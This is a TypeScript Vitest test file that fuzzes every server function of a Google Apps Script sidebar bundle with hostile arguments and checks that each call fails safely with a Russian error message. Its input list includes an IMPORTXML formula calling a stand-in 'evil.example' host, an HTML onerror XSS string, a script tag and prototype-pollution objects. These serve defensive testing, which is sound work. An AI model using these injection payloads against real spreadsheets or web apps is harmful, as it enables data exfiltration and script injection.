// Every server function the sidebar can call (every top-level `api…` function of the built
// bundle — a new one is covered without touching this test) is called with hostile arguments:
// nothing, null, numbers, 1e6-character strings, arrays of 1e5 items, objects with `__proto__` /
// `constructor` keys, getters that throw, requests with wrong-typed fields. Each call either
// succeeds or throws an Error with a short Russian message; a rejected call changes nothing in the
// workbook (the only line it may add is an «ошибка» in «Журнал»), sends no mail, creates no file
// or trigger; and nothing pollutes Object.prototype, in Node's realm or the bundle's.

import { readFileSync } from "node:fs";
import { resolve } from "node:path";
import vm from "node:vm";
import { describe, expect, it } from "vitest";
import { createGasEnvironment, type GasEnvironment } from "../fakes/gas";
import { DIST, loadBundle } from "./load";
import { seedSchool } from "./reminders-school";

function start() {
  const gas = createGasEnvironment({
    htmlFiles: { Sidebar: readFileSync(resolve(DIST, "Sidebar.html"), "utf8") },
  });
  const ctx = loadBundle({ ...gas.globals });
  vm.runInContext(
    `(() => { const R = Date; const t = new R("2025-09-15T09:00:00").getTime();
      function D(...a) { if (!new.target) return new R(t).toString(); return Reflect.construct(R, a.length ? a : [t], new.target); }
      D.prototype = R.prototype; D.now = () => t; D.UTC = R.UTC; D.parse = R.parse; globalThis.Date = D; })()`,
    ctx,
  );
  gas.useDateConstructor(vm.runInContext("Date", ctx) as DateConstructor);
  return { gas, ctx };
}

/** Everything a server function could change: every sheet's cells, protections, properties, triggers, mail, files. */
function snapshot(gas: GasEnvironment, withJournal: boolean): string {
  const sheets = gas.spreadsheet
    .getSheets()
    .filter((s) => withJournal || s.getName() !== "Журнал")
    .map((s) => [s.getName(), s.state.maxRows, s.state.maxColumns, s.getDataRange().getValues()]);
  const protections = gas.spreadsheet.state.protections.map((p) => [
    p.sheet.name,
    p.row,
    p.col,
    p.numRows,
    p.numCols,
    p.description,
    p.warningOnly,
  ]);
  const g = gas.globals;
  return JSON.stringify({
    sheets,
    protections,
    properties: gas.documentProperties.getProperties(),
    triggers: g.ScriptApp.triggers.length,
    sent: g.MailApp.sent.length,
    files: g.DriveApp.state.files.size,
  });
}

function journalRows(gas: GasEnvironment): unknown[][] {
  return gas.spreadsheet.getSheetByName("Журнал")?.getDataRange().getValues() ?? [];
}

const BIG = "Ж".repeat(1_000_000);
const MANY = Array.from({ length: 100_000 }, (_, i) => `НР-${i}`);
const MANY_OBJECTS = Array.from({ length: 100_000 }, () => ({ menteeId: "НЯ-0001", mentorId: "НР-0001" }));

function throwing(keys: string[]): object {
  const o: Record<string, unknown> = {};
  for (const key of keys) {
    Object.defineProperty(o, key, {
      enumerable: true,
      get() {
        throw new Error("getter exploded");
      },
    });
  }
  return o;
}

/** The field names of every request the sidebar sends (documents, matching, pairs, close year…). */
const FIELDS = [
  "kind",
  "ids",
  "date",
  "newRevision",
  "pdf",
  "strategy",
  "scope",
  "form",
  "weights",
  "locked",
  "excluded",
  "promote",
  "menteeId",
  "mentorId",
  "score",
  "reasons",
  "mode",
  "enabled",
  "minimal",
];

function withEvery(value: unknown): Record<string, unknown> {
  return Object.fromEntries(FIELDS.map((f) => [f, value]));
}

/** Hostile values, each with a label for the failure message. */
const HOSTILE: [string, unknown][] = [
  ["undefined", undefined],
  ["null", null],
  ["0", 0],
  ["-1", -1],
  ["NaN", Number.NaN],
  ["Infinity", Number.POSITIVE_INFINITY],
  ["1e308", 1e308],
  ["true", true],
  ["empty string", ""],
  ["1e6-char string", BIG],
  ["formula", '=IMPORTXML("https://evil.example","//a")'],
  ["html", '<img src=x onerror="window.__pwned=1">'],
  ["__proto__ string", "__proto__"],
  ["empty array", []],
  ["array of 1e5 ids", MANY],
  ["array of 1e5 pairs", MANY_OBJECTS],
  ["array of nulls", [null, undefined, 5]],
  ["empty object", {}],
  ["__proto__ key", JSON.parse('{"__proto__": {"polluted": "yes"}, "kind": "order"}')],
  ["constructor key", JSON.parse('{"constructor": {"prototype": {"polluted": "yes"}}}')],
  ["null-prototype object", Object.create(null)],
  ["getters that throw", throwing(FIELDS)],
  ["array with throwing items", [throwing(["menteeId", "mentorId"])]],
  ["fields as numbers", withEvery(7)],
  ["fields as objects", withEvery({ toString: 1, valueOf: 2 })],
  ["fields as 1e6 strings", withEvery(BIG)],
  ["fields as 1e5 arrays", withEvery(MANY)],
  ["fields with __proto__", withEvery(JSON.parse('{"__proto__": {"polluted": "yes"}}'))],
  [
    "pairs of wrong types",
    [
      { menteeId: {}, mentorId: [] },
      { menteeId: 1, mentorId: null },
    ],
  ],
  ["invalid date", new Date(Number.NaN)],
  // Requests that look right but for one field.
  ["documents: 1e5 ids", { kind: "pairs-order", ids: MANY }],
  ["documents: ids of objects", { kind: "pairs-order", ids: [{ id: "П-0001" }] }],
  ["documents: impossible date", { kind: "pairs-order", ids: ["П-0001"], date: "2025-13-45" }],
  ["documents: id with a formula", { kind: "pairs-order", ids: ['=HYPERLINK("x")'] }],
  ["documents: pdf as string", { kind: "pairs-order", ids: ["П-0001"], pdf: "да" }],
  ["matching: unknown strategy", { strategy: "greedy" }],
  [
    "matching: weight out of range",
    { strategy: "optimal", weights: { requests: Number.MAX_VALUE, subject: -5 } },
  ],
  ["matching: 1e5 locked pairs", { strategy: "optimal", locked: MANY_OBJECTS }],
  ["matching: unknown form", { strategy: "optimal", form: "<script>x</script>" }],
  ["close year: 1e5 ids", { promote: MANY }],
  ["close year: ids with new lines", { promote: ["НЯ-0001\nНЯ-0002"] }],
  ["close year: promote as object", { promote: { 0: "НЯ-0001", length: 1 } }],
];

/** A plausible first argument for the functions that take two, so the second one is reached. */
const GOOD_FIRST: Record<string, unknown> = {
  apiLoadRoadmapTemplate: "teachers",
  apiImportRoadmapFromDoc: "https://docs.google.com/document/d/abc/edit",
  apiImportResponsesFromSheet: "Ответы на форму (1)",
  apiWithdrawPerson: "НЯ-0001",
  apiConfirmPairs: [],
};

const ENGLISH =
  /\b(Cannot|is not|undefined is|of undefined|of null|TypeError|RangeError|ReferenceError|exploded|Maximum call stack|Invalid|Exception)\b/;

function argumentLists(name: string): [string, unknown[]][] {
  const lists: [string, unknown[]][] = [["no arguments", []]];
  for (const [label, value] of HOSTILE) {
    lists.push([label, [value]]);
    lists.push([`${label} twice`, [value, value]]);
    if (name in GOOD_FIRST) lists.push([`good first, ${label}`, [GOOD_FIRST[name], value]]);
  }
  return lists;
}

function polluted(ctx: vm.Context): unknown[] {
  const probe = {} as Record<string, unknown>;
  return [
    probe.polluted,
    vm.runInContext("({}).polluted", ctx),
    vm.runInContext("Object.keys(Object.prototype).length", ctx) === 0 ? undefined : "vm Object.prototype",
    Object.keys(Object.prototype).length === 0 ? undefined : "Object.prototype",
  ];
}

describe("server functions with hostile arguments", () => {
  const { gas, ctx } = start();
  (ctx.apiSetupWorkbook as () => unknown)();
  (ctx.apiLoadRoadmapTemplate as (k: string) => unknown)("teachers");
  // A school with working pairs, so that a request that gets past its checks reaches real records.
  seedSchool(gas, 2);
  const names = Object.keys(ctx)
    .filter((n) => n.startsWith("api") && typeof ctx[n] === "function")
    .sort();

  it("finds every api function of the bundle", () => {
    expect(names.length).toBeGreaterThanOrEqual(24);
    expect(names).toContain("apiGenerateDocuments");
    expect(names).toContain("apiCloseYear");
  });

  for (const name of names) {
    it(`${name}: succeeds harmlessly or refuses in Russian, changing nothing`, () => {
      const fn = ctx[name] as (...a: unknown[]) => unknown;
      const outcomes: string[] = [];
      for (const [label, args] of argumentLists(name)) {
        const before = snapshot(gas, false);
        const journalBefore = journalRows(gas).length;
        const sentBefore = gas.globals.MailApp.sent.length;
        let thrown: unknown = null;
        let result: unknown;
        try {
          result = fn(...args);
        } catch (error) {
          thrown = error;
        }
        expect(polluted(ctx), `${name}(${label})`).toEqual([undefined, undefined, undefined, undefined]);
        if (thrown === null) {
          // A success answers plain JSON (what google.script.run can carry back).
          if (result !== undefined)
            expect(JSON.parse(JSON.stringify(result)), `${name}(${label})`).toEqual(result);
          // Mail goes out only from the action that sends it, never because of a stray argument.
          if (name !== "apiSendRemindersNow")
            expect(gas.globals.MailApp.sent.length, `${name}(${label})`).toBe(sentBefore);
          outcomes.push("ok");
          continue;
        }
        const isError = Object.prototype.toString.call(thrown) === "[object Error]";
        expect(isError, `${name}(${label}) threw a non-Error`).toBe(true);
        const message = (thrown as Error).message;
        expect(message, `${name}(${label})`).toMatch(/[А-Яа-яЁё]{3}/);
        expect(message, `${name}(${label}): ${message.slice(0, 200)}`).not.toMatch(ENGLISH);
        expect(message.length, `${name}(${label}) message length`).toBeLessThan(1000);
        expect(snapshot(gas, false), `${name}(${label}) changed the workbook`).toBe(before);
        // At most the journal line of the failure.
        const added = journalRows(gas).slice(journalBefore);
        expect(added.length, `${name}(${label}) journal lines`).toBeLessThanOrEqual(1);
        for (const row of added) expect(row, `${name}(${label})`).toContain("ошибка");
        outcomes.push("refused");
      }
      // Not everything was silently accepted by a function that takes arguments, and not everything refused by one that takes none.
      expect(outcomes.length).toBeGreaterThan(HOSTILE.length);
    });
  }
});
